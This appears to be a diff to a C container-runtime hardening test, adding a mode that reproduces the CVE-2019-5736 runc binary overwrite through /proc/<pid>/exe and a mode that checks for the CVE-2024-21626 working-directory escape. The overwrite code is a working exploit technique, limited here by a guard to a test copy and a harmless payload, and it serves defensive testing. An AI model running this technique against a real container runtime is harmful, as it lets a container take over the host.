@@ -15,7 +15,9 @@
  * anything that changes the host.  Each check runs in its own child so a
  * chroot, setns or unshare never leaks into the next one.
  */
+#ifndef _GNU_SOURCE
 #define _GNU_SOURCE
+#endif
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
@@ -1107,6 +1109,139 @@ static void info(void)
 	printf("INFO scratch %s\n", scratch[0] ? scratch : "(none writable)");
 }
 
+/*
+ * CVE-2019-5736 attacker, run as the container's main process.  Waits for a
+ * process started as `#!/proc/self/exe` (the runtime re-executed by `exec`),
+ * keeps its /proc/<pid>/exe open and, once the runtime has exited, reopens
+ * it for writing.  Writes only when the binary is the test's copy (env
+ * HR_COPY_DIR) or a memfd, so a mistake can never reach an installed runtime.
+ */
+/* The runtime inside the container: re-executed as an interpreter, or its `init` on the way in. */
+static bool exe_candidate(pid_t self, int pid, char *link, size_t n)
+{
+	char p[64], cmd[128];
+	int k;
+
+	if (pid == self || pid <= 0)
+		return false;
+	snprintf(p, sizeof(p), "/proc/%d/cmdline", pid);
+	k = read_small(p, cmd, sizeof(cmd));
+	if (k <= 0)
+		return false;
+	if (strcmp(cmd, "/proc/self/exe") != 0 && !strstr(cmd, "runc") && !strstr(cmd, "hardrun") &&
+	    !((int)strlen(cmd) + 1 < k && strcmp(cmd + strlen(cmd) + 1, "init") == 0))
+		return false;
+	snprintf(p, sizeof(p), "/proc/%d/exe", pid);
+	k = (int)readlink(p, link, n - 1);
+	if (k < 0)
+		snprintf(link, n, "(readlink: %s; cmdline %s)", en(errno), cmd);
+	else
+		link[k] = '\0';
+	return true;
+}
+
+static int overwrite_exe(int pid, const char *link, const char *copy)
+{
+	char p[64];
+	int fd, w = -1, e = 0;
+
+	snprintf(p, sizeof(p), "/proc/%d/exe", pid);
+	fd = open(p, O_PATH | O_CLOEXEC);
+	if (fd < 0) {
+		printf("OVERWRITE blocked open %s: %s (exe %s)\n", p, en(errno), link);
+		return 0;
+	}
+	if (strncmp(link, copy, strlen(copy)) != 0 && !strstr(link, "memfd:")) {
+		printf("OVERWRITE unsafe exe %s is not under %s, not touched\n", link, copy);
+		close(fd);
+		return 1;
+	}
+	snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
+	for (int i = 0; i < 500 && w < 0; i++) { /* ETXTBSY until the runtime exits */
+		w = open(p, O_WRONLY | O_TRUNC | O_CLOEXEC);
+		e = errno;
+		if (w < 0 && e != ETXTBSY)
+			break;
+		if (w < 0)
+			usleep(10000);
+	}
+	if (w >= 0 && write(w, "#!/bin/sh\necho overwritten\n", 27) == 27)
+		printf("OVERWRITE succeeded exe %s\n", link);
+	else
+		printf("OVERWRITE blocked reopen for write: %s (exe %s)\n",
+		       w >= 0 ? "short write" : en(e), link);
+	if (w >= 0)
+		close(w);
+	close(fd);
+	return w >= 0;
+}
+
+static int mode_exe_overwrite(int seconds)
+{
+	const char *copy = getenv("HR_COPY_DIR");
+	char link[512];
+	struct {
+		int pid;
+		char exe[64];
+	} tried[64];
+	int n_tried = 0;
+
+	printf("READY\n");
+	for (int t = 0; t < seconds * 1000 && n_tried < 64; t++) {
+		DIR *d = opendir("/proc");
+		struct dirent *e;
+
+		while (d && (e = readdir(d)) && n_tried < 64) {
+			int pid = atoi(e->d_name), i = 0;
+
+			if (!exe_candidate(getpid(), pid, link, sizeof(link)))
+				continue;
+			/* runc init keeps its pid across execve: a new exe is a new target */
+			while (i < n_tried &&
+			       (tried[i].pid != pid ||
+				strncmp(tried[i].exe, link, sizeof(tried[i].exe) - 1)))
+				i++;
+			if (i < n_tried)
+				continue;
+			tried[n_tried].pid = pid;
+			memcpy(tried[n_tried].exe, link, sizeof(tried[0].exe) - 1);
+			tried[n_tried++].exe[sizeof(tried[0].exe) - 1] = '\0';
+			if (copy && overwrite_exe(pid, link, copy) == 1) {
+				closedir(d);
+				printf("DONE\n");
+				return 0;
+			}
+		}
+		if (d)
+			closedir(d);
+		usleep(1000);
+	}
+	printf("OVERWRITE %s\n", n_tried ? "gave up" : "none-seen no runtime process appeared");
+	printf("DONE\n");
+	return 0;
+}
+
+/* CVE-2024-21626: where does the cwd the runtime gave us lead? */
+static int mode_cwd(void)
+{
+	char buf[512];
+	long n = syscall(SYS_getcwd, buf, sizeof(buf));
+	struct stat root, here;
+
+	printf("CWD %s\n", n > 0 ? buf : en(errno));
+	stat("/", &root);
+	for (int i = 0; i < 64; i++)
+		if (chdir("..") < 0)
+			break;
+	if (stat(".", &here) == 0 && (here.st_dev != root.st_dev || here.st_ino != root.st_ino))
+		printf("CWDESCAPE yes: .. from the cwd leads to %u:%u ino %lu, not the root\n",
+		       major(here.st_dev), minor(here.st_dev), (unsigned long)here.st_ino);
+	else
+		printf("CWDESCAPE no\n");
+	printf("DONE\n");
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	struct result *shared =
@@ -1114,6 +1249,10 @@ int main(int argc, char **argv)
 	static const char *const leftovers[] = {"mnt", "jail", "cg", "mem", "disk", NULL};
 
 	setvbuf(stdout, NULL, _IOLBF, 0);
+	if (argc > 1 && strcmp(argv[1], "--exe-overwrite") == 0)
+		return mode_exe_overwrite(argc > 2 ? atoi(argv[2]) : 60);
+	if (argc > 1 && strcmp(argv[1], "--cwd") == 0)
+		return mode_cwd();
 	if (shared == MAP_FAILED) {
 		printf("INFO mmap failed: %s\n", en(errno));
 		return 0;
